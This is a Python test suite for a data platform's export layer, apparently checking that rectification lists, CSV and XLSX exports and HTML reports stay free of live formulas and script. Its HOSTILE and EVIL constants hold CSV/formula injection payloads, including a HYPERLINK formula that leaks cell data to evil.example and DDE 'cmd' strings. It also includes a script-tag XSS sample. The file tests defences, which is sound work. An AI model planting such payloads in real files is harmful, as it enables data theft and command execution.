"""What leaves the platform is safe to open (docs/security.md): the 整改清单 and any CSV export
carry no live formula, stay valid files after masking, the HTML report and Data Docs stay
escaped, and no value that fails its own field's validation is shown as the expected one."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

from jobs.serving.export import FORMULA_TRIGGERS, inert
from jobs.serving.sql.render import render
from jobs.serving.workbench.present import write_lists

from .hostile_kit import clean_city, copy_landing, day_dir, manifest, redeliver, the_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example/")',
    "a\x00b\x1b[2J",
]


def _findings(values: list[str]) -> pd.DataFrame:
    n = len(values)
    return pd.DataFrame(
        {
            "finding_id": [f"F{i}" for i in range(n)],
            "rule_id": ["person_name_mismatch"] * n,
            "dimension": ["consistency"] * n,
            "department": ["人社"] * n,
            "source_id": ["rsj_sbcb"] * n,
            "entity_kind": ["person"] * n,
            "entity_id": ["130926200112195673"] * n,
            "attribute": ["name"] * n,
            "observed": values,
            "expected": ["=1+1"] * n,
            "authoritative_source": ["gaj_hjrk"] * n,
            "first_seen_batch": ["b"] * n,
            "last_seen_batch": ["b"] * n,
            "first_seen_on": [dt.date(2026, 11, 2)] * n,
            "last_seen_on": [dt.date(2026, 11, 2)] * n,
            "status": ["open"] * n,
        }
    )


def _assert_inert_csv(path: Path) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or re.fullmatch(r"[+-][\d.]+", cell), cell
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell), cell
    return rows


def _assert_typed_xlsx(path: Path) -> list[list]:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)
    wb = openpyxl.load_workbook(path)  # a valid file
    cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]


@pytest.mark.parametrize("unmasked", [False, True])
def test_rectification_lists_carry_no_formula(tmp_path, unmasked):
    from jobs.platform.policy import grant

    reader = None if unmasked else grant("city_analyst")
    lists = write_lists(_findings(HOSTILE), tmp_path, reader=reader)
    paths = lists["人社"][1]
    rows = _assert_inert_csv(paths["csv"])
    grid = _assert_typed_xlsx(paths["xlsx"])
    observed = [r[8] for r in rows[1:]]
    assert [r[8] for r in grid[1:]] == observed  # both files show the same text
    if unmasked:
        assert observed[0] == "'" + HOSTILE[0] and observed[7] == "a\\x00b\\x1b[2J"
    else:  # a masked value starting with = is still a valid, inert cell
        assert observed[0].startswith("'=") and "*" in observed[0]
    assert isinstance(grid[1][13], dt.datetime | dt.date)  # dates stay dates


def test_inert_leaves_numbers_and_plain_text_alone():
    assert inert("-5") == "-5" and inert("+3.25") == "+3.25" and inert("张三") == "张三"
    assert inert("-") == "'-" and inert("=1") == "'=1" and inert("@x") == "'@x"


def test_sql_csv_export_is_inert():
    table = pa.table({"name": HOSTILE + ["-12"], "n": list(range(len(HOSTILE) + 1))})
    rows = list(csv.reader(io.StringIO(render(table, "csv"))))
    assert rows[0] == ["name", "n"] and rows[-1] == ["-12", str(len(HOSTILE))]
    assert all(not r[0].startswith(FORMULA_TRIGGERS) for r in rows[1:-1])


# ------------------------------------------------------------------------------ end to end
EVIL = '=HYPERLINK("http://evil.example/","点击")'
SCRIPT = "<script>alert(1)</script>"


def _ids_in(path: Path, encoding: str = "utf-8") -> set[str]:
    return set(re.findall(r"\d{17}[\dX]", path.read_bytes().decode(encoding, "replace")))


def _plant(landing: Path) -> str:
    """A person whose 户籍 record is gone and whose name two sources deliver as a formula while
    one delivers it right; a <script> where a division code belongs, and as another person's
    name at the licence platform."""
    gaj = the_file(landing, "gaj_hjrk")
    hydj, dzzz = the_file(landing, "mzj_hydj"), the_file(landing, "zwfw_dzzz")
    others = ("wjw_cszm", "wjw_swzm", "scjgj_qydj", "swj_swdj", "mzj_shzz")
    elsewhere = set().union(*(_ids_in(the_file(landing, s)) for s in others))
    wb = openpyxl.load_workbook(the_file(landing, "rsj_sbcb"))
    insured = {str(r[1]) for r in wb.worksheets[0].iter_rows(min_row=2, values_only=True)}
    pid = sorted((_ids_in(gaj, "gb18030") & _ids_in(hydj) & _ids_in(dzzz) & insured) - elsewhere)[0]
    holders = {
        rec["czztdm"]
        for rec in map(json.loads, dzzz.read_text("utf-8").splitlines())
        if rec.get("czztdmlx") == "111"
    }
    other = sorted((_ids_in(gaj, "gb18030") & holders) - {pid})[0]
    lines = gaj.read_bytes().decode("gb18030").splitlines(keepends=True)
    kept = [line for line in lines if not line.startswith(pid)]
    kept[2] = re.sub(r",1309\d\d,", f",{SCRIPT},", kept[2], count=1)
    redeliver(gaj, "".join(kept).encode("gb18030"), rows=len(kept) - 1)
    for f, keys in (
        (hydj, (("nfsfzh", "nfxm"), ("nvsfzh", "nvxm"))),
        (dzzz, (("czztdm", "czzt"),)),
    ):
        out = []
        for line in f.read_text("utf-8").splitlines():
            rec = json.loads(line)
            for id_key, name_key in keys:
                if rec.get(id_key) in (pid, other):
                    rec[name_key] = EVIL if rec[id_key] == pid else SCRIPT
            out.append(json.dumps(rec, ensure_ascii=False))
        redeliver(f, ("\n".join(out) + "\n").encode())
    return pid


@pytest.mark.slow
def test_a_hostile_city_leaves_nothing_live_in_what_goes_out(tmp_path):
    from jobs.pipeline.runner import run_pipeline
    from jobs.platform.engine import get_spark
    from jobs.platform.lake import Lake
    from jobs.platform.policy import grant
    from jobs.serving.report.report import build_report

    landing = copy_landing(clean_city(tmp_path / "clean"), tmp_path / "landing")
    assert manifest(the_file(landing, "gaj_hjrk"))["rows"] and day_dir(landing, "gaj_hjrk")
    pid = _plant(landing)
    run_pipeline(landing, tmp_path / "lake", echo=lambda m: None)
    lake = Lake(tmp_path / "lake", get_spark())
    findings = lake.read("quality.findings").filter(f"entity_id = '{pid}'").collect()
    names = [f for f in findings if f["rule_id"] == "person_name_mismatch"]
    assert {f["source_id"] for f in names} == {"mzj_hydj", "zwfw_dzzz"}
    assert all(f["observed"] == EVIL and f["expected"] and "=" not in f["expected"] for f in names)
    assert all(f["authoritative_source"] == "rsj_sbcb" for f in names)

    for unmasked in (False, True):
        out = tmp_path / f"report-{unmasked}"
        files = build_report(
            lake, out, reader=grant("city_analyst"), user="t", unmasked_lists=unmasked
        )
        html = files.index.read_text("utf-8")
        docs = "".join(p.read_text("utf-8") for p in (out / "data-docs").rglob("*.html"))
        assert "alert(1)" not in docs  # Data Docs show counts, never delivered values
        assert SCRIPT not in html and "<*" not in html
        assert "&lt;*" in html  # the masked example of the <script> name, escaped
        for paths in files.lists.values():
            rows = _assert_inert_csv(paths["csv"])
            _assert_typed_xlsx(paths["xlsx"])
            if unmasked and any(EVIL in cell for row in rows for cell in row):
                assert any("'" + EVIL in row for row in rows)
